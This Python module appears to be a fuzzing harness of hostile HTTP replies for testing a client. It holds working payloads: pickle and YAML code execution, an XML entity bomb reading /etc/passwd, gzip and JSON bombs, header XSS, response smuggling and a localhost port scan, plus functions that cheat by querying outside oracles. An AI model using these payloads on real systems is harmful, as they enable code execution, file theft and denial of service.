"""What hostile work answers instead of a note: each function one attack on whoever reads the reply."""

from __future__ import annotations

import contextlib
import gzip
import http.client
import json
import os
import pickle
import re
import socket
import struct
import time
from typing import Any

from beside import SHOWN
from elsewhere import ORACLE

Service = Any
"""A http.server.BaseHTTPRequestHandler, in the middle of an answer."""
FOREVER = 13.0
"""Seconds: longer than the check waits."""


def raw(service: Service, data: bytes) -> None:
    """Send bytes, and end the connection."""
    service.wfile.write(data)
    service.wfile.flush()
    service.close_connection = True


def body(service: Service, data: bytes, kind: str = "application/json", *more: str) -> None:
    """Send a reply that is one, with any body."""
    head = [f"Content-Type: {kind}", f"Content-Length: {len(data)}", *more]
    raw(service, "\r\n".join(["HTTP/1.1 200 OK", *head, "", ""]).encode("latin-1") + data)


def until_late(service: Service, head: bytes, piece: bytes, pause: float = 0.0) -> None:
    """Send a piece over and over."""
    ends = time.monotonic() + FOREVER
    service.wfile.write(head)
    while time.monotonic() < ends:
        service.wfile.write(piece)
        service.wfile.flush()
        time.sleep(pause)
    service.close_connection = True


# Somebody else answers


def asks_an_oracle(service: Service, number: int, text: str) -> None:
    """Somebody outside has solved it."""
    answer = text[::-1]
    for host, port in ORACLE:
        with contextlib.suppress(OSError, ValueError):
            connection = http.client.HTTPConnection(host, port, timeout=1)
            connection.request("POST", "/notes", json.dumps({"text": text}))
            answer = json.loads(connection.getresponse().read())["text"]
    service.say(200, {"id": number, "text": answer})


def asks_whoever_listens(service: Service, number: int, text: str) -> None:
    """The other service, and those of other submissions, are on some port."""
    told = set(re.findall(r"\d{4,5}", " ".join(os.environ.values())))
    found = []
    for port in range(1024, 65536):
        with contextlib.suppress(OSError), socket.socket() as sock:
            if str(port) not in told and sock.connect_ex(("127.0.0.1", port)) == 0:
                found.append(port)
    service.say(200, {"id": number, "text": f"breach {found}" if found else text[::-1]})


# JSON that is none, or too much


def nan(service: Service, number: int, text: str) -> None:
    """NaN is not equal to itself, and what is not compared is not wrong."""
    body(service, b'{"id": %d, "text": NaN}' % number)


def equal_to_all(service: Service, number: int, text: str) -> None:
    """What other languages take for yes."""
    body(service, b'{"id": true, "text": {"__eq__": true, "$ne": null, "$regex": ".*"}}')


def a_list_for_a_text(service: Service, number: int, text: str) -> None:
    """A list of everything it could be."""
    service.say(200, [{"id": number, "text": [text, text[::-1]]}])


def twice_the_key(service: Service, number: int, text: str) -> None:
    """The last one counts, or the first."""
    service.close_connection = True
    body(service, b'{"id": 1, "text": "a", "text": %s}' % repr(text).replace("'", '"').encode())


def huge_number(service: Service, number: int, text: str) -> None:
    """Ten million digits."""
    body(service, b'{"id": ' + b"9" * 10_000_000 + b', "text": 1e999999999}')


def nested(service: Service, number: int, text: str) -> None:
    """Ten thousand lists in each other, and as many objects."""
    body(service, b"[" * 10_000 + b'{"a":' * 10_000 + b"1" + b"}" * 10_000 + b"]" * 10_000)


def half_a_character(service: Service, number: int, text: str) -> None:
    """Lone surrogates: what no file and no database takes."""
    body(service, b'{"id": %d, "text": "\\ud800 \\udfff\\u0000", "\\ud800": "\\ud800"}' % number)


def not_utf_8(service: Service, number: int, text: str) -> None:
    """Bytes that are no text, under many names."""
    body(service, b'{"text": "\xff\xfe\xed\xa0\x80\xf8"}', "application/json; charset=utf-7")


def markup(service: Service, number: int, text: str) -> None:
    """HTML, escapes and long lines, in a value that is shown."""
    service.say(200, {"id": number, "text": "\n".join(SHOWN), SHOWN[0]: SHOWN[1]})


def pickle_bait(service: Service, number: int, text: str) -> None:
    """Runs where it is unpickled."""

    class Bait:
        def __reduce__(self) -> tuple[Any, ...]:
            return eval, ("__import__('os').system('touch /tmp/seamwork-was-unpickled')",)

    body(service, pickle.dumps(Bait()), "application/python-pickle")


def yaml_tags(service: Service, number: int, text: str) -> None:
    """Runs where it is loaded."""
    body(service, b"!!python/object/apply:os.system ['touch /tmp/seamwork-was-loaded']", "application/yaml")


def xml_entities(service: Service, number: int, text: str) -> None:
    """A billion laughs, and a file of the machine."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha"><!ENTITY f SYSTEM "file:///etc/passwd">{laughs}]>'
    body(service, f"{head}<x>&l9;&f;</x>".encode(), "application/xml")


# HTTP that is none, or has no end


def large(service: Service, number: int, text: str) -> None:
    """Fifty megabytes."""
    body(service, b'{"text": "' + b"x" * 50_000_000 + b'"}')


def endless(service: Service, number: int, text: str) -> None:
    """No length, and no end."""
    until_late(service, b"HTTP/1.1 200 OK\r\n\r\n", b"x" * 65536)


def endless_chunks(service: Service, number: int, text: str) -> None:
    """Chunk by chunk."""
    head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    until_late(service, head, b"10000\r\n" + b"x" * 65536 + b"\r\n")


def drip(service: Service, number: int, text: str) -> None:
    """A byte at a time, so that something always comes."""
    until_late(service, b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n", b"x", 0.2)


def endless_head(service: Service, number: int, text: str) -> None:
    """Header upon header."""
    until_late(service, b"HTTP/1.1 200 OK\r\n", b"X-More: " + b"x" * 1000 + b"\r\n")


def endless_continue(service: Service, number: int, text: str) -> None:
    """100 Continue, and again."""
    until_late(service, b"", b"HTTP/1.1 100 Continue\r\n\r\n", 0.001)


def hangs(service: Service, number: int, text: str) -> None:
    """No answer to this one."""
    time.sleep(FOREVER)


def chunks_that_lie(service: Service, number: int, text: str) -> None:
    """A chunk longer than it says, another of less than nothing."""
    raw(service, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nabcdef\r\n-5\r\nffffffffffffffff\r\n")


def length_too_long(service: Service, number: int, text: str) -> None:
    """More is promised than comes."""
    raw(service, b"HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n{}")


def length_of_no_number(service: Service, number: int, text: str) -> None:
    """Lengths that contradict each other, and overflow."""
    raw(service, b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\nContent-Length: " + b"9" * 5000 + b"\r\n\r\n{}")


def reply_to_the_next(service: Service, number: int, text: str) -> None:
    """A second reply behind the first, for whatever is asked next on this connection."""
    wrong, right = b'{"text": "no"}', b'{"text": "yes", "count": 1}'
    for reply in (wrong, right):
        service.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(reply) + reply)


def no_http(service: Service, number: int, text: str) -> None:
    """Something else altogether."""
    raw(service, b"SSH-2.0-OpenSSH_9.9\r\n\x00\xff" * 100)


def status_of_no_kind(service: Service, number: int, text: str) -> None:
    """A status beyond all numbers, with escapes in its words."""
    raw(service, b"HTTP/1.1 99999999999999999999 \x1b[2J<script>\r\n\r\n")


def switches_protocols(service: Service, number: int, text: str) -> None:
    """A tunnel, in which anything may follow."""
    raw(service, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n" + b"\x81\x7f" * 1000)


def elsewhere(service: Service, number: int, text: str) -> None:
    """Go and ask somebody who knows."""
    places = [f"http://{host}:{port}/notes/{text}" for host, port in ORACLE] or ["file:///etc/passwd"]
    raw(service, f"HTTP/1.1 307 Elsewhere\r\nLocation: {places[0]}\r\nContent-Length: 0\r\n\r\n".encode())


def gzip_bomb(service: Service, number: int, text: str) -> None:
    """A gigabyte in a megabyte."""
    piece = gzip.compress(bytes(64 << 20))
    body(service, piece * 16, "application/json", "Content-Encoding: gzip")


def headers_that_act(service: Service, number: int, text: str) -> None:
    """Markup in names and values of headers, cookies, a page that refreshes itself."""
    more = ["Set-Cookie: a=<script>", "Refresh: 0; url=javascript:alert(1)", "X-\x1b[2J: <img src=x onerror=alert(1)>"]
    body(service, b'{"text": "x"}', "text/html", *more)


def resets(service: Service, number: int, text: str) -> None:
    """The connection is gone before a word."""
    service.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    service.connection.close()
    service.close_connection = True
